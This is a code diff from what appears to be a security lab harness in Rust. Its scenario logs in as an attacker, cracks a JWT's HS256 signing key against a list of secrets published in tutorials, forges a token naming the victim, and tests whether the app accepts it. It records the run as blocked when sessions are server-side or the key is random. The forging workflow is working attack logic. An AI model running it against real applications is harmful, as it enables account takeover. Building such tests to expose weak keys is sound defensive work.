@@ -8,8 +8,13 @@
 //! `38sisjsk92` is on the list because the tutorial printed it. With the
 //! key, he writes `"sub": "alice"` and signs it. Server-side sessions give
 //! him no token to crack; a random 256-bit key is on no list.
+//!
+//! Against a target file's app the same run looks at every cookie for the
+//! JWT and finds which claim holds the attacker's username (not always
+//! `sub`): that is the claim rewritten. Without a JWT it is not-applicable,
+//! with what the cookies are instead.
 
-use crate::actors::{judge, log_in, probe_account, read_own_note, session_id, short, token_cookie};
+use crate::actors::{OwnToken, judge, log_in, own_token, probe_account, read_own_note};
 use crate::lab::{RunContext, RunError, plant_cookie};
 use crate::outcome::{Actor, Verdict};
 use crate::tokens;
@@ -26,39 +31,38 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
 
     let mut attacker = ctx.browser(Actor::Attacker, "attacker");
     log_in(ctx, &mut attacker, &ctx.attacker).await?;
-    let action = format!(
-        "logged in as {} and looked in his own cookies for a token",
-        ctx.attacker.username
-    );
-    let Some((name, value)) = token_cookie(&attacker) else {
-        let id = session_id(ctx, &attacker).unwrap_or_default();
-        let evidence = format!(
-            "his cookies hold no token, only the session ID {}: who is signed in stays on the server, so there is nothing to crack or forge",
-            short(&id)
-        );
-        let step = ctx.step(Actor::Attacker, action, &evidence);
-        return Ok(Verdict::blocked(evidence, step));
+    let OwnToken {
+        cookie,
+        jwt,
+        identity_claim,
+    } = match own_token(
+        ctx,
+        &attacker,
+        "who is signed in stays on the server, so there is nothing to crack or forge",
+    ) {
+        Ok(found) => found,
+        Err(verdict) => return Ok(verdict),
     };
-    let jwt =
-        tokens::decode(&value).ok_or_else(|| RunError::Lab("the token stopped decoding".into()))?;
-    ctx.step(
-        Actor::Attacker,
-        action,
-        format!(
-            "cookie {name} is a JWT: header {}, claims {}",
-            serde_json::Value::Object(jwt.header.clone()),
-            serde_json::Value::Object(jwt.claims.clone())
-        ),
-    );
 
     let tried = tokens::wordlist(tokens::PUBLISHED_SECRETS).count();
     let action = format!(
-        "tried {tried} secrets published in tutorials and docs against the token's HS256 signature, offline"
+        "tried {tried} secrets published in tutorials and docs against the token's {} signature, offline",
+        jwt.alg().unwrap_or("unstated")
     );
-    let Some(secret) = tokens::crack(&jwt, tokens::wordlist(tokens::PUBLISHED_SECRETS)) else {
-        let evidence = format!(
-            "none of the {tried} secrets reproduces the signature: the key is on no published list"
-        );
+    let cracked = match jwt.alg() {
+        Some("HS256") => tokens::crack(&jwt, tokens::wordlist(tokens::PUBLISHED_SECRETS)),
+        _ => None,
+    };
+    let Some(secret) = cracked else {
+        let evidence = match jwt.alg() {
+            Some("HS256") => format!(
+                "none of the {tried} secrets reproduces the signature: the key is on no published list"
+            ),
+            other => format!(
+                "the token is signed with {}, not HS256: no shared secret to guess from a list",
+                other.unwrap_or("no stated algorithm")
+            ),
+        };
         let step = ctx.step(Actor::Attacker, action, &evidence);
         return Ok(Verdict::blocked(evidence, step));
     };
@@ -69,17 +73,18 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     );
 
     let mut claims = jwt.claims.clone();
-    claims.insert("sub".into(), ctx.victim.username.clone().into());
+    claims.insert(identity_claim.clone(), ctx.victim.username.clone().into());
     let forged = tokens::sign_hs256(&claims, secret.as_bytes());
-    let account = ctx.app_url("/account");
+    let proof = ctx.proof_url();
     let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
-    plant_cookie(&mut forger, &account, &name, &forged);
-    let probe = probe_account(&mut forger, account).await?;
+    plant_cookie(&mut forger, &proof, &cookie, &forged);
+    let probe = probe_account(&mut forger, proof).await?;
     Ok(judge(
         ctx,
         &format!(
-            "signed a token saying \"sub\": \"{}\" with the key and opened /account with it",
-            ctx.victim.username
+            "signed a token saying \"{identity_claim}\": \"{}\" with the key and opened {} with it",
+            ctx.victim.username,
+            ctx.target.proof_path()
         ),
         &probe,
         &note,
